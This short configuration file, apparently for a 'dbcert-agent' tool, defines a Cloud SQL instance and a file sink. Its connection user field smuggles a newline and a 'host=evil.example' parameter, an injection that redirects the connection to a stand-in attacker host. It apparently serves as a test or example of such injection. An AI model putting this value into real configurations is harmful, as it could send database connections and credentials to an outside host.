instance "cloudsql" "orders" {
  project  = "my-proj"
  instance = "orders-pg"
  connection {
    user   = "app\nhost=evil.example"
    dbname = "app"
  }
  sink "file" {
    dir = "/var/lib/dbcert-agent/orders"

  }
}
